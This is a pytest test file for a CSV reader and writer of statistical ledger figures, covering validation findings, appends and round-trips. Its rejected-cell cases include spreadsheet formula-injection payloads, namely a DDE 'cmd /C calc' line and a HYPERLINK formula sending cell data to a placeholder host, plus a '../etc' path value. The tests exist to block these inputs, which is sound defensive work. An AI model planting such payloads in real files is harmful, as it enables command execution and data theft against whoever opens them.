from __future__ import annotations

import time
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from giaouoc.engine.figures import (
    COLUMNS,
    Entry,
    Ledger,
    Precision,
    PublishedOn,
    PublisherBasis,
    Status,
    WindowBasis,
)
from giaouoc.engine.findings import Finding, Refusal
from giaouoc.engine.periods import Window
from giaouoc.exchange import figures_file
from giaouoc.exchange.figures_cells import tidy
from giaouoc.exchange.figures_file import read_figures, read_rows, write_figures
from tests.exchange.sample_case import append_rows, row, rows, spoken

HEADER = ",".join(COLUMNS)


def problems(text: str) -> list[Finding]:
    with pytest.raises(Refusal) as refused:
        read_figures(text)
    return spoken(refused.value.findings)


def told(text: str) -> list[tuple[str, object, object]]:
    return [(f.code, f.get("row"), f.get("column")) for f in problems(text)]


def test_a_row_becomes_an_entry() -> None:
    _, ledger = read_figures(write_figures([row(1, value="41", claimed_base="44", claimed_percent="-6.80")]))
    assert ledger.entries == (
        Entry(
            seq=1,
            unit="north",
            indicator="deaths",
            window=Window.inclusive(date(2024, 12, 15), date(2025, 6, 14)),
            window_basis=WindowBasis.STATED,
            status=Status.REPORTED,
            value=Decimal(41),
            numerator=None,
            denominator=None,
            precision=Precision.EXACT,
            definition=None,
            publisher="office",
            publisher_basis=PublisherBasis.PRINTED,
            source="Báo cáo 12/BC, trang 3",
            published_on=PublishedOn("2025-06-20", date(2025, 6, 20)),
            claimed_base=Decimal(44),
            claimed_percent=Decimal("-6.80"),
        ),
    )


def test_raw_rows_are_the_cells_as_they_stand() -> None:
    text = write_figures(rows()).replace("Cộng nhầm", "  Co\u0323\u0302ng  nhầm ")
    raw, ledger = read_figures(text)
    assert raw == read_rows(text)
    assert raw[3]["reason"] == "  Co\u0323\u0302ng  nhầm "
    assert ledger.entry(4).reason == "Cộng nhầm"


@pytest.mark.parametrize(
    ("written", "known_on"),
    [("2025", date(2025, 12, 31)), ("2024-02", date(2024, 2, 29)), ("2025-06-20", date(2025, 6, 20))],
)
def test_a_month_or_a_year_alone_counts_as_its_last_day(written: str, known_on: date) -> None:
    _, ledger = read_figures(write_figures([row(1, value="1", published_on=written)]))
    assert ledger.entry(1).published_on == PublishedOn(written, known_on)


def test_missing_not_applicable_and_zero_stay_three_things() -> None:
    three = [row(1, value="0"), row(2, status="missing"), row(3, status="not_applicable")]
    _, ledger = read_figures(write_figures(three))
    assert [(e.status, e.value) for e in ledger] == [
        (Status.REPORTED, Decimal(0)),
        (Status.MISSING, None),
        (Status.NOT_APPLICABLE, None),
    ]


def test_line_ends_blank_lines_and_quotes_do_not_matter() -> None:
    text = write_figures(rows())
    lines = text.replace(",north,", ',"north",').split("\n")
    expected = read_figures(text)[1].entries
    assert [read_figures(end.join(lines))[1].entries for end in ("\r\n", "\n\n")] == [expected, expected]
    assert read_rows("\r\n".join(lines)) == read_rows(text)


@pytest.mark.parametrize(
    ("cells", "code", "column"),
    [
        ({"value": "1.234,5"}, "exchange.number-not-for-files", "value"),
        ({"value": "NaN"}, "exchange.number-not-for-files", "value"),
        ({"value": "inf"}, "exchange.number-not-for-files", "value"),
        ({"value": "1e3"}, "exchange.number-not-for-files", "value"),
        ({"value": "-5"}, "exchange.number-negative", "value"),
        ({"value": "1" * 19}, "exchange.number-too-long", "value"),
        ({"value": ""}, "figures.reported-without-value", None),
        ({"numerator": "1", "value": ""}, "figures.half-a-ratio", None),
        ({"status": "missing"}, "figures.value-without-report", None),
        ({"first_day": "9999-01-01"}, "exchange.day-out-of-range", "first_day"),
        ({"last_day": "9999-12-31"}, "exchange.day-out-of-range", "last_day"),
        ({"last_day": "2024-01-01"}, "periods.window-upside-down", None),
        ({"first_day": "15/12/2024"}, "case_file.day-not-iso", "first_day"),
        ({"first_day": "2024-12"}, "exchange.day-unreadable", "first_day"),
        ({"first_day": ""}, "case_file.cell-empty", "first_day"),
        ({"published_on": "20/6/2025"}, "case_file.day-not-iso", "published_on"),
        ({"published_on": "6/2025"}, "case_file.day-not-iso", "published_on"),
        ({"published_on": "2025-13"}, "exchange.day-unreadable", "published_on"),
        ({"status": "Reported"}, "case_file.word-misspelt", "status"),
        ({"precision": "guess"}, "case_file.word-unknown", "precision"),
        ({"unit": "Bắc"}, "case_file.not-a-code", "unit"),
        ({"unit": "../etc"}, "case_file.not-a-code", "unit"),
        ({"source": ""}, "case_file.cell-empty", "source"),
        ({"source": "x" * 2001}, "case_file.text-too-long", "source"),
        ({"source": "a\x07b"}, "case_file.text-unprintable", "source"),
        ({"note": "=1+1"}, "case_file.formula", "note"),
        ({"note": "@SUM(A1)"}, "case_file.formula", "note"),
        ({"note": "+cmd|' /C calc'!A0"}, "case_file.formula", "note"),
        ({"note": "-2+3+cmd|' /C calc'!A0"}, "case_file.formula", "note"),
        ({"note": '+1+HYPERLINK("http://x.vn/"&A1,"xem")'}, "case_file.formula", "note"),
        ({"corrects": "0"}, "case_file.not-an-entry-number", "corrects"),
        ({"recorded_at": "yesterday"}, "case_file.not-an-instant", "recorded_at"),
        ({"recorded_at": "2025-07-01"}, "case_file.not-an-instant", "recorded_at"),
        ({"recorded_at": "9999-07-01T00:00:00"}, "exchange.day-out-of-range", "recorded_at"),
    ],
)
def test_a_wrong_cell_is_named_with_row_and_column(
    cells: dict[str, str], code: str, column: str | None
) -> None:
    text = write_figures([row(1, value="1"), row(2, **{"value": "1"} | cells)])
    assert told(text) == [(code, 3, column)]


@pytest.mark.parametrize(
    "note", ["-33 so với năm trước", "+5 %", "- chưa rõ", "-3 vụ (giảm)", "–14,2 %", "a=b", "x@y.vn"]
)
def test_a_remark_that_only_looks_like_arithmetic_is_taken(note: str) -> None:
    assert read_figures(write_figures([row(1, value="1", note=note)]))[1].entry(1).note == note


def test_a_day_in_another_form_names_the_right_one() -> None:
    text = write_figures([row(1, value="1", first_day="14/2/2025", published_on="tháng 6 năm 2025")])
    assert [(f["value"], f["would_be"]) for f in problems(text)] == [
        ("14/2/2025", "2025-02-14"),
        ("tháng 6 năm 2025", "2025-06"),
    ]


def test_every_problem_of_every_row_comes_at_once() -> None:
    text = write_figures([row(1, value="x", unit="A B"), row(2, value="1"), row(3, status="gone")])
    assert told(text) == [
        ("case_file.not-a-code", 2, "unit"),
        ("exchange.number-not-for-files", 2, "value"),
        ("case_file.word-unknown", 4, "status"),
    ]


def test_problems_between_rows_are_named_with_their_row() -> None:
    text = write_figures([row(1, value="1"), row(3, value="1")])
    assert told(text) == [("figures.seq-out-of-order", 3, None)]


def test_a_shifted_column_does_not_flood_the_answer() -> None:
    found = told(write_figures([row(n, value="x") for n in range(1, 1500)]))
    assert len(found) == figures_file.MOST_PROBLEMS + 1
    assert found[-1][0] == "case_file.problems-too-many"


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (HEADER.replace(",note", ""), [("case_file.column-missing", "note")]),
        (HEADER + ",colour", [("case_file.column-unknown", "colour")]),
        (HEADER + ",note", [("case_file.column-twice", "note")]),
        (
            HEADER.replace("publisher_basis", "publisher_bases"),
            [
                ("case_file.column-missing", "publisher_basis"),
                ("case_file.column-misspelt", "publisher_bases"),
            ],
        ),
        (HEADER.replace("seq,unit", "unit,seq"), [("case_file.columns-out-of-order", "unit")]),
        (HEADER.replace(",", ";"), [("case_file.separator-semicolon", None)]),
        (HEADER.replace(",", "\t"), [("case_file.separator-tab", None)]),
    ],
)
def test_a_header_that_is_not_the_ledgers_is_refused(
    header: str, expected: list[tuple[str, str | None]]
) -> None:
    found = problems(header + "\n1,2,3\n")
    assert [(f.code, f.get("value")) for f in found] == expected
    assert {f["row"] for f in found} == {1}


@pytest.mark.parametrize(
    ("tail", "expected"),
    [
        ("1,north\n", [("case_file.row-too-short", 2)]),
        ("1" + "," * 23 + "\n", [("case_file.row-too-long", 2)]),
        ('1,"north', [("case_file.quote-not-closed", 2)]),
        ('1,"nor"th,\n', [("case_file.quote-misplaced", 2)]),
        ('1,"' + "x" * 140_000 + '"\n', [("case_file.cell-too-long", 2)]),
    ],
)
def test_a_broken_row_is_named(tail: str, expected: list[tuple[str, int]]) -> None:
    assert [(code, row) for code, row, _ in told(f"{HEADER}\n{tail}")] == expected


def test_an_empty_text_is_no_ledger_and_a_header_alone_is_an_empty_one() -> None:
    assert [code for code, _, _ in told("")] == ["exchange.file-empty"]
    assert read_figures(HEADER)[1].entries == ()


def test_more_rows_than_a_ledger_may_have_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(figures_file, "MOST_ROWS", 3)
    assert len(read_figures(write_figures([row(n, value="1") for n in range(1, 4)]))[1]) == 3
    assert told(write_figures([row(n, value="1") for n in range(1, 5)])) == [
        ("case_file.rows-too-many", None, None)
    ]


def test_rows_are_appended_and_what_stands_there_is_not_touched(tmp_path: Path) -> None:
    path = tmp_path / "figures.csv"
    old = "\ufeff" + write_figures(rows()[:2]).replace("\n", "\r\n").replace("north", '"north"').rstrip()
    path.write_bytes(old.encode())
    new = [
        {**row(9, value="7", unit="south")},
        {k: v for k, v in row(1, value="8").items() if v and k != "seq"},
    ]
    added = append_rows(tmp_path, new)
    assert [(e.seq, e.unit, e.value) for e in added] == [(3, "south", Decimal(7)), (4, "north", Decimal(8))]
    text = path.read_bytes().decode()
    assert text.startswith(old + "\r\n3,south,")
    assert text.count("\r\n") == text.count("\n") == 5
    assert [p.name for p in tmp_path.iterdir()] == ["figures.csv"]


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        ({"value": "-1"}, "exchange.number-negative"),
        ({"value": "1", "corrects": "7", "reason": "x"}, "figures.corrects-later-entry"),
        ({"value": "1", "colour": "red"}, "case_file.column-unknown"),
    ],
)
def test_a_wrong_row_is_not_appended(tmp_path: Path, cells: dict[str, str], code: str) -> None:
    path = tmp_path / "figures.csv"
    path.write_text(write_figures(rows()), encoding="utf-8")
    before = path.read_bytes()
    with pytest.raises(Refusal) as refused:
        append_rows(tmp_path, [row(1, value="1"), row(1, **cells)])
    assert [f.code for f in spoken(refused.value.findings)] == [code]
    assert path.read_bytes() == before


def test_nothing_to_append_changes_nothing(tmp_path: Path) -> None:
    (tmp_path / "figures.csv").write_text(write_figures(rows()), encoding="utf-8")
    assert append_rows(tmp_path, []) == ()


LETTERS = st.characters(codec="utf-8", exclude_categories=["C", "Z"]) | st.sampled_from(' ",;\n')
PHRASES = st.text(LETTERS, min_size=1, max_size=30).map(lambda text: tidy(f"a {text}"))
AMOUNTS = st.decimals(0, 10**9, places=2)
DAYS = st.dates(date(2020, 1, 1), date(2026, 12, 31))


@st.composite
def entries(draw: st.DrawFn, seq: int) -> Entry:
    first = draw(DAYS)
    status = draw(st.sampled_from([Status.REPORTED, Status.MISSING, Status.NOT_APPLICABLE]))
    is_ratio = draw(st.booleans())
    reported = status is Status.REPORTED
    day = draw(DAYS)
    shown = draw(st.sampled_from([f"{day}", f"{day:%Y-%m}", f"{day:%Y}"]))
    ends = {4: date(day.year, 12, 31), 7: (day.replace(day=28) + timedelta(4)).replace(day=1) - timedelta(1)}
    return Entry(
        seq=seq,
        unit=draw(st.sampled_from(["north", "south"])),
        indicator=draw(st.sampled_from(["deaths", "x-zero"])),
        window=Window.inclusive(first, first + timedelta(draw(st.integers(0, 400)))),
        window_basis=draw(st.sampled_from(WindowBasis)),
        status=status,
        value=draw(AMOUNTS) if reported else None,
        numerator=draw(AMOUNTS) if reported and is_ratio else None,
        denominator=draw(AMOUNTS) if reported and is_ratio else None,
        precision=draw(st.sampled_from(Precision)),
        definition=draw(st.none() | PHRASES),
        publisher=draw(st.sampled_from(["office", "press"])),
        publisher_basis=draw(st.sampled_from(PublisherBasis)),
        source=draw(PHRASES),
        published_on=draw(st.none() | st.just(PublishedOn(shown, ends.get(len(shown), day)))),
        recorded_by=draw(st.none() | PHRASES),
        claimed_base=draw(st.none() | AMOUNTS),
        claimed_percent=draw(st.none() | st.decimals(-100, 1000, places=1)),
        note=draw(st.none() | PHRASES),
    )


@given(st.integers(0, 6).flatmap(lambda n: st.tuples(*(entries(seq) for seq in range(1, n + 1)))))
def test_reading_what_was_written_gives_the_same_ledger(made: tuple[Entry, ...]) -> None:
    text = write_figures(Ledger(made))
    raw, ledger = read_figures(text)
    assert ledger.entries == made
    assert write_figures(raw) == text


def test_a_hundred_thousand_rows_are_read_in_seconds() -> None:
    tail = write_figures([row(1, value="VALUE", last_day="2025-12-30", source="SOURCE")]).split("\n")[1][1:]
    days = [date(2024, 12, 15) + timedelta(n) for n in range(360)]
    lines = (
        str(n)
        + tail.replace("VALUE", str(n))
        .replace("SOURCE", f"Báo cáo {n}")
        .replace("2024-12-15", str(days[n % 360]))
        for n in range(1, 100_001)
    )
    text = "\n".join([HEADER, *lines])
    start = time.process_time()
    _, ledger = read_figures(text)
    assert len(ledger) == 100_000
    assert time.process_time() - start < 8
